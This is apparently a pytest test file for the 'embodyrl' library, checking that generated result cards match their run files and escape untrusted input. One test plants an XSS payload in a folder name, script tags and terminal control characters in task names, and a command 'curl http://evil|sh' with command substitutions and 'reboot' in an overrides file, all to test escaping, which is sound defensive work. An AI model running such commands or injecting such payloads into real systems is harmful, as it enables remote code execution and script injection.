"""The result card matches the files of its run."""

from __future__ import annotations

import hashlib
import json
import re
import shlex
import subprocess
from html import unescape
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from run_files import write_run
from toy_runs import toy_config

from embodyrl.cli.main import main
from embodyrl.commands.run_folder import open_run
from embodyrl.errors import ConfigError
from embodyrl.monitor.intervals import wilson
from embodyrl.reports.card import build_card, format_card, write_card


def carded(tmp_path: Path) -> Path:
    run = write_run(tmp_path / "runs" / "mine", "seed=7")
    (run / "env.txt").write_text("embodyrl 0.1.0\ncommit abc+changes\nprocessor A B\ngpu 0\ngpu 1\nray not installed\n")
    (run / "overrides.txt").write_text("# attempt 1: train seed=7\n# attempt 2: train runner.max_steps=3\n")
    (run / "costs.jsonl").write_text(
        '{"wall_s": 3600, "cpu_s": 7200, "gpus": 2}\n{"wall_s": 1800, "cpu_s": 0, "gpus": 2}\n'
    )
    protocol = {"name": "p", "followed": False, "departures": ["a=1 instead of 2"], "sources": []}
    table = {"dropped": 1, "env_steps": 500, "protocol": protocol}
    for folder in (run / "eval").iterdir():
        (folder / "eval.json").write_text(json.dumps(table))
    return run


def test_run_card_matches_the_run_files(tmp_path: Path) -> None:
    run = carded(tmp_path)
    card = build_card(run)
    assert (card["commit"], card["embodyrl"], card["command"]) == (
        "abc+changes",
        "0.1.0",
        "embodyrl train seed=7 && embodyrl train --resume mine runner.max_steps=3",
    )
    with (run / "overrides.txt").open("a") as file:
        file.write("# attempt 3: train trust=true\n# attempt 4: train seed=7\n# attempt 5: train runner.max_steps=3\n")
    assert build_card(run)["command"] == card["command"], "nothing new was typed"
    assert card["config_sha256"] == hashlib.sha256((run / "config.yaml").read_bytes()).hexdigest()
    assert card["seeds"] == {"run": 7, "evaluation": "1000 to 1005"}
    assert card["states"] == {"training": [0, 2999], "evaluation": [3000, 3499], "evaluated": 6}
    assert card["machine"] == {"processor": "A B", "gpu": "0, 1"}
    first, last = card["figures"]
    assert (first["step"], last["step"]) == (0, 3)
    row = last["rows"][0]
    assert (row["value"], row["low"], row["high"]) == (pytest.approx(4 / 6), *wilson(4, 6))
    assert [r["name"] for r in last["rows"][1:]] == ["open the drawer", "close the <drawer>"]
    assert card["change"][0]["pairs"] == 6
    assert card["dropped_episodes"] == 2
    costs = card["costs"]
    assert (costs["evaluation_env_steps"], costs["wall_hours"], costs["cpu_hours"], costs["gpu_hours"]) == (
        1000,
        1.5,
        2.0,
        3.0,
    )
    json.dumps(card, allow_nan=False)


def test_card_counts_states_steps_and_discordant_pairs(tmp_path: Path) -> None:
    run = carded(tmp_path)
    (run / "metrics.jsonl").write_text("".join(f'{{"step": {n}, "env/steps": {100 * n}}}\n' for n in (1, 2, 3)))
    for folder, successes in zip(sorted((run / "eval").iterdir()), ("TFFFFF", "FTTTFF"), strict=True):
        rows = [json.loads(line) for line in (folder / "episodes.jsonl").read_text().splitlines()]
        for number, (row, success) in enumerate(zip(rows, successes, strict=True)):
            row.update(reset_id=3000 + number // 2, success_once=success == "T", task_id=0, task="open")
        (folder / "episodes.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    card = build_card(run)
    assert card["states"]["evaluated"] == 3
    assert (card["change"][0]["only_first"], card["change"][0]["only_last"]) == (1, 3)
    assert card["costs"]["training_env_steps"] == 600


def test_resumed_evaluation_cost_includes_all_episodes(tmp_path: Path) -> None:
    """The table contains the steps of the last attempt; the six episodes took 10 to 15 steps."""
    run = carded(tmp_path)
    (run / "eval" / "step_000003" / "eval.json").write_text(json.dumps({"env_steps": 29}))
    assert build_card(run)["costs"]["evaluation_env_steps"] == 500 + sum(range(10, 16))


def test_card_text_contains_protocol_and_results(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = carded(tmp_path)
    paths = write_card(run, tmp_path / "assets")
    assert [path.name for path in paths] == ["card.json", "CARD.md"]
    text = paths[1].read_text()
    assert text == format_card(json.loads(paths[0].read_text()))
    for words in (
        "| protocol | p, differs: a=1 instead of 2 |",
        "66.7 % [30.0, 90.3] (4/6)",
        "2 episodes were dropped",
    ):
        assert words in text
    assert main(["card", str(run), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["run"] == "mine"
    assert (run / "CARD.md").is_file()
    with pytest.raises(ConfigError, match=r"config.yaml is missing"):
        build_card(tmp_path)


def test_card_contains_no_markup_and_no_shell_commands_of_the_run(tmp_path: Path) -> None:
    run = carded(tmp_path).rename(tmp_path / "evil<img src=x onerror=alert(9)>")
    rows = [json.loads(line) for line in (run / "eval/step_000003/episodes.jsonl").read_text().splitlines()]
    for number, row in enumerate(rows):
        row["task"] = ("<script>a</script>", "a|`b`[c](http://d) **e** ~~f~~ _g_ a@b.c www.h.i\x1b]0;")[number % 2]
    (run / "eval/step_000003/episodes.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    command = "train a=b; curl http://evil|sh `id` $(id) <script>"
    (run / "overrides.txt").write_text(f"# attempt 1: {command}\n# attempt 2: train c; reboot\n# attempt 3: train 'd\n")
    text = "\n".join(
        line for line in format_card(build_card(run)).splitlines() if not line.startswith("| command | ``embodyrl")
    )
    assert "<" not in text
    assert text.startswith("# Result card: evil&lt;img src=x onerror=alert(9)&gt;\n")
    assert r"| a\|\`b\`[c\](http&#58;//d) \*\*e\*\* \~\~f\~\~ \_g\_ a&#64;b.c www&#46;h.i?]0; |" in text
    first, second = build_card(run)["command"].split(" && ")
    assert shlex.split(first) == ["embodyrl", *command.split()]
    script = f"embodyrl() {{ printf '%s\\n' \"$@\"; }}; {first}; {second}"
    lines = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True).stdout.splitlines()
    assert lines == [*command.split(), "train", "--resume", run.name, "c;", "reboot"]


def test_suite_names_contain_no_headings_lists_quotations_emphasis_or_formulas(tmp_path: Path) -> None:
    run = carded(tmp_path)
    names = ["# a", "> a", "1. a", "12) a", "- a", "+ a", "* a", "[ ] a", "[a]: /b", "a $x^2$ b", "3.5 a-b #c"]
    names += ["__a__", "x ___a___ y", "_a_ b_c", "٣. a"]
    for file in run.glob("eval/*/episodes.jsonl"):
        row = json.loads(file.read_text().splitlines()[-1])
        rows = (row | {"episode": k, "task_id": k, "suite": name} for k, name in enumerate(["", *names]))
        file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    text = format_card(build_card(run))
    html = MarkdownIt("commonmark").enable("table").render(text)
    items = re.findall("<li>(.*): paired", html)
    assert [unescape(item) for item in items] == names
    assert (html.count("<h1>"), html.count("<h2>"), html.count("<ul>")) == (1, 3, 1)
    assert not re.search("<ol|<blockquote|<a ", html)
    assert "$" not in text


def test_malformed_source_lines_are_shown_as_text(tmp_path: Path) -> None:
    run = carded(tmp_path)
    (run / "env.txt").write_text("source x\nsource a b c\nsource m 0123\n")
    card = build_card(run)
    assert card["sources"] == {"x": "", "a": "b c", "m": "0123"}
    assert "| own code | x, sha256 ; a, sha256 b c; m, sha256 0123 |" in format_card(card)


def test_commands_in_cards_contain_no_control_characters(tmp_path: Path) -> None:
    run = carded(tmp_path).rename(tmp_path / "evil\n\n# Official")
    (run / "overrides.txt").write_text(
        "# attempt 1: train a='é\x1b[2J\u202e'\n# attempt 2: train b\n", encoding="utf-8"
    )
    (line,) = (line for line in format_card(build_card(run)).splitlines() if line.startswith("| command |"))
    assert line == "| command | `embodyrl train 'a=é?[2J?' && embodyrl train --resume 'evil??# Official' b` |"


def test_card_contains_own_source_files_and_their_pythonpath(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The hash is of the file when the run started."""
    (source := tmp_path / "own" / "my_estimator.py").parent.mkdir()
    source.write_text(code := "from embodyrl.algorithms.objectives.outcomes import RLOO as MINE\n")
    monkeypatch.syspath_prepend(str(source.parent))
    monkeypatch.setenv("PYTHONPATH", str(source.parent))
    folder = open_run(toy_config(tmp_path, "algorithm.adv_type=my_estimator:MINE"), "train", ["a=b"], None)
    folder.close()
    source.write_text("")
    card = build_card(folder.root)
    digest = hashlib.sha256(code.encode()).hexdigest()[:16]
    assert card["sources"]["my_estimator"] == digest
    assert card["command"] == f"PYTHONPATH={source.parent} embodyrl train a=b"
    assert f"my_estimator, sha256 {digest}" in format_card(card)


def test_run_without_evaluation_has_a_card(tmp_path: Path) -> None:
    run = write_run(tmp_path / "runs" / "plain")
    for file in (run / "eval").rglob("*.jsonl"):
        file.unlink()
    card = build_card(run)
    assert (card["figures"], card["protocol"], card["commit"]) == ([], None, None)
    assert "# Result card: plain" in format_card(card)


@pytest.mark.parametrize("name", ["openvla_oft_tabletop"])
def test_included_weights_have_a_card(name: str) -> None:
    folder = Path(__file__).parents[2] / "assets" / name
    card = json.loads((folder / "card.json").read_text())
    assert card["model"]["weights"] == f"assets/{name}"
    assert card["figures"]
    assert format_card(card) == (folder / "CARD.md").read_text()


def test_card_includes_time_of_killed_attempts(tmp_path: Path) -> None:
    """Only finished attempts write their costs; the rows of killed attempts exist."""
    run = carded(tmp_path)
    row = {"time/step": 3600.0, "time/validate": 1800.0}
    (run / "metrics.jsonl").write_text("".join(json.dumps({"step": step, **row}) + "\n" for step in range(1, 5)))
    costs = build_card(run)["costs"]
    assert costs["wall_hours"] == 6.0
    assert {"cpu_hours", "gpu_hours"}.isdisjoint(costs), "of the killed one nobody knows them"


def test_card_uses_protocol_and_seeds_of_the_last_evaluation(tmp_path: Path) -> None:
    run = carded(tmp_path)
    first = run / "eval" / "step_000000"
    (first / "eval.json").write_text(json.dumps({"protocol": {"name": "older", "departures": []}}))
    rows = [json.loads(line) for line in (first / "episodes.jsonl").read_text().splitlines()]
    (first / "episodes.jsonl").write_text("".join(json.dumps(row | {"seed": row["seed"] - 500}) + "\n" for row in rows))
    card = build_card(run)
    assert card["protocol"]["name"] == "p"
    assert card["seeds"]["evaluation"] == "1000 to 1005"
